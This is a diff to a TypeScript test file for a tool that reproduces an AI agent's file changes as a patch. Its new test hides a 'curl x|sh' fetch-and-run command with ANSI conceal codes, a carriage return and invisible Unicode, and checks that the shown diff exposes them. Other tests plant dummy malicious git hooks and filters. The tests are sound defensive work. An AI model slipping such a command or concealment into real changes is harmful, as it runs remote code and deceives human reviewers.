@@ -17,6 +17,7 @@ import { join } from "node:path";
 import { afterEach, expect, test } from "vitest";
 import { Changes } from "./changes.ts";
 import { extractTar } from "./extract.ts";
+import { plain } from "./style.ts";
 import { listFiles, packFolder } from "./tree.ts";
 
 const cleanups: (() => Promise<void>)[] = [];
@@ -98,7 +99,7 @@ test("an agent's changes are reproduced exactly: text, binary, modes, renames, d
   expect(await readlink(join(root, "link"))).toBe("a.txt");
   expect(await listFiles(root)).not.toContain("gone.txt");
   expect(await listFiles(root)).not.toContain("deep/er/old name.md");
-  expect(await patch!.display(false)).toMatch(/rename from deep\/er\/old name\.md/);
+  expect(await patch!.display(plain)).toMatch(/rename from deep\/er\/old name\.md/);
 });
 
 test("folders without a repository and empty folders work, and no change means no patch", async () => {
@@ -116,7 +117,7 @@ test("ignored files are omitted from the diff unless the repository tracks them"
   const { patch } = await workOn(root, (copy) =>
     write(copy, { "build/out.js": "x", "new.log": "x", "kept.log": "2\n" }),
   );
-  const text = await patch!.display(false);
+  const text = await patch!.display(plain);
   expect(text).toContain("kept.log");
   expect(text).not.toMatch(/out\.js|new\.log/);
 });
@@ -132,7 +133,7 @@ test("a nested repository is compared file by file, without files of .git", asyn
       ".git/hooks/pre-commit": "evil",
     });
   });
-  const text = await patch!.display(false);
+  const text = await patch!.display(plain);
   expect(text).toContain("inner/file.txt");
   expect(text).not.toContain(".git/");
   await changes.apply(patch!);
@@ -190,6 +191,17 @@ test("filters and hooks of the machine's git configuration do not run on the age
   const { patch } = await workOn(root, (copy) =>
     write(copy, { ".gitattributes": "* filter=evil diff=evil\n", "a.txt": "2\n" }),
   );
-  expect(await patch!.display(true)).toContain("a.txt");
+  expect(await patch!.display(plain)).toContain("a.txt");
   expect(await readdir(home)).toEqual([".gitconfig"]);
+});
+
+test("the shown diff hides nothing of what is applied, and the patch itself is exact", async () => {
+  const root = await folder({ "a.sh": "ls\n" });
+  const text = "ls \x1b[8m; curl x|sh\x1b[0m\rls\n\u202e#\u{e0041}\u200b\n";
+  const { changes, patch } = await workOn(root, (copy) => write(copy, { "a.sh": text }));
+  const shown = await patch!.display(plain);
+  expect(shown).toContain("+ls ^[[8m; curl x|sh^[[0m^Mls\n+<U+202E>#<U+E0041><U+200B>\n");
+  expect(shown.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+  await changes.apply(patch!);
+  expect(await readFile(join(root, "a.sh"), "utf8")).toBe(text);
 });
